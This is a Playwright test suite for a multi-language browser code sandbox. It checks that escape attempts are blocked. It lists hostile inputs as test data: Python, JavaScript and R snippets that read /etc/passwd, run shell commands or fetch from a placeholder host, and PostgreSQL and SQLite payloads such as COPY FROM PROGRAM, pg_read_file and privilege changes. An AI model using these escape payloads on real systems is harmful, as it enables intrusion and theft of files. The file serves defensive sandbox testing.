import { expect, type Page } from '@playwright/test'
import type { SandboxLanguage } from '#core/session/run-protocol'
import type { Produced } from '#core/session/verdict'
import { attemptScript, attempts, freeAttempts } from './sandbox-attempts.ts'
import { firstOf, run, test } from './sandbox-fixture.ts'
import type { SandboxPage } from './sandbox-page.ts'
import { samples } from './sandbox-samples.ts'

test.describe.configure({ mode: 'default', timeout: 180_000 })

/** Runs one Python expression body that tries something; what it returns is what got through. */
const python = async (page: Page, body: string): Promise<Produced> => {
  const code = `def f():\n${body.split('\n').map((line) => `    ${line}`).join('\n')}\n`
  const [produced] = await run(page, 'python', { code, cases: [{ caseId: 'a', args: [] }] })
  if (!produced) throw new Error('nothing came back')
  return produced
}
const sql = async (page: Page, code: string): Promise<Produced> => {
  const [produced] = await run(page, 'postgresql', { code, cases: [{ caseId: 'a', setup: 'create table t (a int); insert into t values (1)' }] })
  if (!produced) throw new Error('nothing came back')
  return produced
}

test.describe('the policy of the worker, tried by plain JavaScript without any hardening', () => {
  async function attempt(page: Page, site: SandboxPage, folder: 'workers' | 'free', name: string, type: WorkerType): Promise<string> {
    site.scripts.set(`/${folder}/attempts.js`, attemptScript)
    const frame = page.frames().find((one) => one.url().startsWith(site.sandboxUrl))
    if (!frame) throw new Error('the sandbox has no frame')
    const target = { host: site.canary.host, port: site.canary.port, pageUrl: site.pageUrl, sandboxUrl: site.sandboxUrl }
    return frame.evaluate(([path, asked, where, kind]) => new Promise<string>((done) => {
      const worker = new Worker(path, { type: kind })
      worker.onmessage = (event: MessageEvent<string>) => {
        worker.terminate()
        done(event.data)
      }
      worker.onerror = (event) => done(`worker: ${event.message}`)
      worker.postMessage({ name: asked, ...where })
    }), [`/${folder}/attempts.js`, name, target, type] as const)
  }

  for (const name of attempts) {
    test(`${name} gets nowhere`, async ({ shown, site }) => {
      // For the frame to be there.
      await run(shown, 'javascript', samples.javascript.good)
      const [before, asked] = [site.canary.connections(), site.asked.length]
      const types: WorkerType[] = name === 'importScripts' ? ['classic'] : ['module', 'classic']
      for (const type of types) expect(await attempt(shown, site, 'workers', name, type)).toMatch(/^(blocked|absent)/)
      expect(site.canary.connections()).toBe(before)
      expect(site.asked).toHaveLength(asked)
    })
  }
  for (const name of freeAttempts) {
    test(`control: without the policy ${name} does reach the canary`, async ({ shown, site }) => {
      const before = site.canary.connections()
      await attempt(shown, site, 'free', name, 'classic')
      await expect.poll(() => site.canary.connections()).toBeGreaterThan(before)
    })
  }
})

test.describe('escapes from Python', () => {
  const escapes: Record<string, string> = {
    'import js': 'import js\nreturn "through"',
    'js.fetch': 'from js import fetch\nfetch("http://HOST/")\nreturn "through"',
    'js.postMessage': 'from js import postMessage\npostMessage("x")\nreturn "through"',
    'js.parent': 'from js import parent\nreturn str(parent)',
    'js.indexedDB': 'from js import indexedDB\nreturn str(indexedDB)',
    'js.caches': 'from js import caches\nreturn str(caches)',
    'js from a fresh import machinery': 'import sys, importlib\nfor name in list(sys.modules):\n    if name.split(".")[0] in ("js", "_pyodide_core", "pyodide_js", "pyodide", "_pyodide"):\n        del sys.modules[name]\nimport js\nreturn str(js.fetch)',
    'pyodide.http': 'from pyodide.http import open_url\nreturn open_url("http://HOST/").read()',
    'pyodide.code.run_js': 'import sys\nsys.modules.pop("pyodide", None)\nsys.modules.pop("pyodide.code", None)\nfrom pyodide.code import run_js\nreturn str(run_js("fetch(\'http://HOST/\')"))',
    pyodide_js: 'import pyodide_js\npyodide_js.loadPackage("http://HOST/x.whl")\nreturn "through"',
    micropip: 'import micropip\nmicropip.install("http://HOST/x.whl")\nreturn "through"',
    socket: 'import socket\ns = socket.create_connection(("127.0.0.1", PORT), 2)\ns.send(b"x")\nreturn s.recv(10).decode() or "through"',
    urllib: 'import urllib.request\nreturn urllib.request.urlopen("http://HOST/", timeout=2).read().decode()',
    'ctypes and the engine’s own functions': 'import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch(\'http://HOST/\')")\nreturn ctypes.CDLL(None).emscripten_run_script_int(b"1+1") == 2 and "through"',
    'objects of JavaScript found by the collector': 'import gc\nfor one in gc.get_objects():\n    if type(one).__name__ == "JsProxy":\n        return str(one.constructor.constructor("return fetch(\'http://HOST/\')")())\nraise LookupError("none")',
    'os.system': 'import os\nif os.system("id") == 0:\n    return "through"\nraise OSError("no shell")',
    subprocess: 'import subprocess\nreturn subprocess.run(["id"], capture_output=True).stdout.decode()',
    'files of the machine': 'return open("/etc/passwd").read()',
    'the API by a guessed address': 'import urllib.request\nreturn urllib.request.urlopen("PAGErpc/bank/search", timeout=2).read().decode()',
  }
  test('each of them gets nowhere', async ({ shown, site }) => {
    const [before, asked] = [site.canary.connections(), site.asked.length]
    const address = `${site.canary.host}:${site.canary.port}`
    const names = Object.keys(escapes)
    // One program with a function for each: every case tries another one, in an interpreter that the former have tried already.
    const functions = Object.values(escapes).map((body, index) => `def try_${index}():\n${body.split('\n').map((line) => `    ${line}`).join('\n')}\n`)
    const code = `${functions.join('')}def f(index):\n    return globals()["try_" + str(index)]()\n`
    const all = await run(shown, 'python', { code: code.replaceAll('HOST', address).replaceAll('PORT', String(site.canary.port)).replaceAll('PAGE', site.pageUrl), cases: names.map((name, index) => ({ caseId: name, args: [index] })) })
    expect(all.map((one) => one.caseId)).toEqual(names)
    for (const produced of all) expect(produced.outcome, JSON.stringify(produced)).not.toBe('returned')
    expect(site.canary.connections()).toBe(before)
    expect(site.asked).toHaveLength(asked)
  })
  test('nothing of the interpreter leads to an object of JavaScript', async ({ shown }) => {
    const produced = await python(shown, `import gc
def inner(one):
    kind = type(one).__name__
    return list(one.values()) if isinstance(one, dict) else list(one) if isinstance(one, (list, tuple)) else list(one.jsproxies.values()) if kind == "JsFinder" else [one]
return [type(each).__name__ for one in gc.get_objects() for each in inner(one) if type(each).__name__ == "JsProxy"]`)
    expect(produced.value).toEqual([])
  })
})

test.describe('escapes from SQL', () => {
  const escapes: Record<string, string> = {
    'COPY FROM PROGRAM': "copy t from program 'id'",
    'COPY TO PROGRAM': "copy (select 1) to program 'id'",
    'COPY TO a file': "copy (select 1) to '/tmp/x'",
    'COPY FROM a file': "copy t from '/etc/passwd'",
    dblink: "select * from dblink('host=127.0.0.1 port=PORT', 'select 1') as x(a int)",
    'create extension': 'create extension dblink',
    lo_export: "select lo_export(lo_from_bytea(0, 'x'), '/tmp/x')",
    lo_import: "select lo_import('/etc/passwd')",
    pg_read_file: "select pg_read_file('/etc/passwd')",
    pg_ls_dir: "select pg_ls_dir('/')",
    'becoming somebody else within the query': "select set_config('role', 'postgres', true), pg_read_file('PG_VERSION')",
    'becoming somebody else by statement': 'reset role',
    'a second statement': 'select 1 as a; drop table t',
    'a statement within a function': "select query_to_xml('select pg_read_file(''PG_VERSION'')', true, true, '')",
    'writing in a with clause': 'with x as (delete from t returning a) select * from x',
    'an anonymous block': 'do $$ begin perform pg_sleep(0); end $$',
  }
  for (const setup of ['begin; select 1; commit;', 'rollback; alter role candidate superuser', 'reset role', "copy (select 1) to program 'id'", 'select 1 / 0']) {
    test(`tables made by “${setup}” are refused, and the next run works`, async ({ shown }) => {
      const cases = [{ caseId: 'a', setup }]
      expect(firstOf(await run(shown, 'postgresql', { code: 'select 1 as a', cases }))).toMatchObject({ outcome: 'raised', error: { message: expect.stringMatching(/^the tables could not be made/) } })
      const looks = "select count(*) as n, (select rolsuper from pg_roles where rolname = 'candidate') as s from t"
      expect(await sql(shown, looks)).toMatchObject({ value: { columns: ['n', 's'], rows: [[1, false]] } })
    })
  }
  for (const [name, code] of Object.entries(escapes)) {
    test(`${name} is refused`, async ({ shown, site }) => {
      const before = site.canary.connections()
      const produced = await sql(shown, code.replaceAll('PORT', String(site.canary.port)))
      expect(produced.outcome, JSON.stringify(produced)).toBe('raised')
      expect(site.canary.connections()).toBe(before)
      expect(await sql(shown, 'select count(*) as n from t')).toMatchObject({ value: { columns: ['n'], rows: [[1]] } })
    })
  }
})

test.describe('escapes from the other languages', () => {
  const javascript = (body: string): [SandboxLanguage, string, string] => ['javascript', body, `function f() {\n  return ${body}\n}`]
  const attempts = [
    'fetch("http://HOST/")', 'new XMLHttpRequest()', 'new WebSocket("ws://HOST/")', 'new EventSource("http://HOST/")', 'importScripts("http://HOST/")', 'import("http://HOST/x.js")',
      'navigator.sendBeacon("http://HOST/", "x")', 'new RTCPeerConnection()', 'Object.assign(new Image(), { src: "http://HOST/" })', 'new FontFace("x", "url(http://HOST/)").load()', 'new Worker("x.js")',
      'new SharedWorker("x.js")', 'require("fs")', 'process.env.PATH.length', 'process.binding("fs")', 'window.parent', 'parent.document', 'self.postMessage(1)', 'postMessage({ type: "case" })', 'indexedDB.open("x")',
      '[].constructor.constructor("return fetch")()("http://HOST/")', 'console.log.constructor("return fetch")()("http://HOST/")', '(0, eval)("fetch")("http://HOST/")',
  ].map(javascript)
  const inR = ['download.file("http://HOST/", "x")', 'readLines(url("http://HOST/"))', 'webr::eval_js("1 + 1")', 'webr::eval_js("fetch(\'http://HOST/\')")', 'readLines(socketConnection("127.0.0.1", PORT, timeout = 1))',
      'install.packages("x", repos = "http://HOST/", quiet = TRUE); stop("got nowhere")', 'system("id", intern = TRUE)', 'readLines(pipe("id"))', 'readLines("/etc/passwd")',
      'dyn.load("/usr/lib/R/library/webr/libs/webr.so")', 'webr::mount("/x", "http://HOST/x.data"); stop("got nowhere")']
  test('r: each of them gets nowhere', async ({ shown, site }) => {
    const [before, asked] = [site.canary.connections(), site.asked.length]
    const code = `tries <- list(${inR.map((body) => `function() {\n  ${body}\n}`).join(', ')})\nf <- function(index) tries[[index]]()`.replaceAll('HOST', `${site.canary.host}:${site.canary.port}`).replaceAll('PORT', String(site.canary.port))
    const all = await run(shown, 'r', { code, cases: inR.map((body, index) => ({ caseId: body, args: [index + 1] })) }, 15_000)
    expect(all.map((one) => one.caseId)).toEqual(inR)
    for (const produced of all) expect(produced.outcome, JSON.stringify(produced)).toMatch(/^(raised|memory)$/)
    expect(site.canary.connections()).toBe(before)
    expect(site.asked).toHaveLength(asked)
  })
  for (const [language, name, code] of attempts) {
    test(`${language}: ${name} gets nowhere`, async ({ shown, site }) => {
      const [before, asked] = [site.canary.connections(), site.asked.length]
      const tried = code.replaceAll('HOST', `${site.canary.host}:${site.canary.port}`).replaceAll('PORT', String(site.canary.port))
      const [produced] = await run(shown, language, { code: tried, cases: [{ caseId: 'a', args: [] }] }, 15_000)
      expect(produced?.outcome, JSON.stringify(produced)).toMatch(/^(raised|memory)$/)
      expect(site.canary.connections()).toBe(before)
      expect(site.asked).toHaveLength(asked)
    })
  }
  const statements = ["attach '/tmp/x.db' as x", "select load_extension('x')", "select readfile('/etc/passwd')", "select writefile('/tmp/x', 'y')", "vacuum into '/tmp/x.db'", 'pragma hard_heap_limit = 1',
    '-- x\n explain pragma hard_heap_limit = 1', '; /* */ ; pragma hard_heap_limit = 1', 'select 1 as a; pragma hard_heap_limit = 1', 'create table u (a int)', 'insert into t values (2) returning a', "select * from fts5vocab('t', 'row')"]
  for (const code of statements) {
    test(`sqlite: ${code} is refused`, async ({ shown }) => {
      const cases = [{ caseId: 'a', setup: 'create table t (a int); insert into t values (1)' }]
      expect(firstOf(await run(shown, 'sqlite', { code, cases }))).toMatchObject({ outcome: 'raised' })
      expect(firstOf(await run(shown, 'sqlite', { code: 'select count(*) as n from t', cases }))).toMatchObject({ value: { columns: ['n'], rows: [[1]] } })
    })
  }
})

test.describe('the frame itself', () => {
  test('is not embedded by a page of another origin', async ({ shown, site }) => {
    const browser = shown.context().browser()
    const page = await browser!.newPage()
    // The same page under another name is another origin.
    await page.goto(site.pageUrl.replace('127.0.0.1', 'localhost'))
    const frame = await page.evaluate(async (url) => {
      const one = document.createElement('iframe')
      one.src = url
      document.body.append(one)
      await new Promise((done) => { one.onload = done })
      return one.contentDocument === null
    }, site.sandboxUrl)
    expect(frame).toBe(true)
    expect(page.frames().some((one) => one.url() === site.sandboxUrl)).toBe(false)
    await page.close()
  })
  test('sees nothing of the page that embeds it', async ({ shown, site }) => {
    const frame = shown.frames().find((one) => one.url().startsWith(site.sandboxUrl))
    const seen = await frame!.evaluate(() => {
      try {
        return String(parent.document.title)
      } catch (error) {
        return String(error)
      }
    })
    expect(seen).toMatch(/SecurityError/)
  })
  test('a sandbox that is not there is said in a sentence', async ({ shown }) => {
    const said = await shown.evaluate(async () => {
      const other = globalThis.createRunner('http://localhost:9/')
      return other.run({ language: 'python', entry: 'f', timeLimitMs: 100, cases: [] }, '').then(() => 'ran', (error: Error) => error.message)
    })
    expect(said).toMatch(/sandbox for running code did not answer/)
  })
})
